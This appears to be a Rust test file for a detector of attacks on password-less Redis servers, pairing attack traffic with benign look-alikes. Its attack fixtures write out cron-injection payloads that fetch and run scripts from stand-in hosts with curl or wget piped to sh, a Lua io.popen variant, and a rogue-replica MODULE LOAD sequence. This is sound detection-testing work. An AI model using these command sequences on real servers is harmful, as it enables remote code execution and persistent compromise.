//! Stores of keys that anyone may write to (Redis, without a password): what is left in them for cron, and loaded as a module.

use crate::table::{ATTEMPT, NOTHING, Table, Way};

/// Commands, each answered with `OK`.
fn told(table: &mut Table, name: &str, kinds: &[&'static str], commands: &[&str]) {
    let said: Vec<(bool, &[u8])> = commands.iter().flat_map(|command| [(true, command.as_bytes()), (false, &b"+OK\r\n"[..])]).collect();
    table.add(name, Way::In, 6379, kinds, None, &said);
}

#[test]
fn keys_of_redis_that_cron_would_run() {
    let mut table = Table::default();
    let key = "SET x \"\\n* * * * * curl http://145.95.1.2/a.sh|sh\\n\"\r\n";
    told(
        &mut table,
        "inline",
        ATTEMPT,
        &["PING\r\n", "CONFIG SET dir /var/spool/cron\r\n", "CONFIG SET dbfilename root\r\n", key, "SAVE\r\n"],
    );
    for (name, commands) in [
        (
            "by a name, all at once",
            "flushall\r\nset x \"\\n\\n*/1 * * * * curl -fsSL http://cnc.evil.example/a.sh | bash\\n\\n\"\r\nsave\r\nquit\r\n",
        ),
        ("in single quotes", "SET Backup2 '\\n*/3 * * * * wget -q -O- http://145.95.1.2/b.sh | sh\\n'\r\n"),
        ("in hexadecimal escapes", "SET x \"\\x0a\\x0a*/5 * * * * wget -O /tmp/a http://145.95.1.2/a; sh /tmp/a\\x0a\"\r\n"),
        ("every hour, by a name", "SET x \"\\n@hourly root wget -qO- http://cnc.evil.example/a | bash\\n\"\r\n"),
        ("without a line of its own", "SET x \"* * * * * curl http://145.95.1.2/a.sh | sh\"\r\n"),
        (
            "by Lua",
            "eval 'local f = io.popen(\"(wget -qO- http://145.95.1.2/a || curl http://145.95.1.2/a)|bash\", \"r\"); return 0' 0\r\n",
        ),
    ] {
        told(&mut table, name, ATTEMPT, &[commands]);
    }
    told(
        &mut table,
        "a module",
        ATTEMPT,
        &["CONFIG SET dbfilename exp.so\r\n", "SLAVEOF 145.95.1.2 21000\r\n", "MODULE LOAD ./exp.so\r\n", "SLAVEOF NO ONE\r\n"],
    );
    told(
        &mut table,
        "a module, in arrays",
        ATTEMPT,
        &["*3\r\n$7\r\nslaveof\r\n$10\r\n145.95.1.2\r\n$5\r\n21000\r\n", "*3\r\n$6\r\nmodule\r\n$4\r\nload\r\n$8\r\n./exp.so\r\n"],
    );
    for (name, command) in [
        ("a replica", "REPLICAOF 145.95.1.2 6379\r\nINFO replication\r\n"),
        ("a mirror", "SET job:9 \"*/5 * * * * curl -o /srv/mirror.html https://example.org/\"\r\n"),
        ("a warning", "SET note \"attackers write * * * * * curl http://145.95.1.2/a | sh into the crontab, so bind to localhost\"\r\n"),
        ("a name", "SET user:1 \"alice\"\r\n"),
        ("a monitor", "PING\r\nINFO\r\n"),
        ("a schedule", "SET job:8:cron \"0 3 * * * /usr/local/bin/backup.sh >/dev/null 2>&1\"\r\n"),
        ("a link", "SET page:7 \"http://145.95.1.2/a.sh\"\r\n"),
        ("a note", "SET note:7 \"to install run curl http://example.org/install.sh | sh on the host\"\r\n"),
        ("a sign of life", "SET job:9 \"*/5 * * * * curl -fsS http://10.0.0.3/ping > /dev/null\"\r\n"),
    ] {
        told(&mut table, name, NOTHING, &[command]);
    }
    table.add("a test of speed", Way::In, 23, NOTHING, None, &[(true, b"wget -O /dev/null http://145.95.1.2/100MB.bin\n"), (false, b"$ ")]);
    table.check();
}
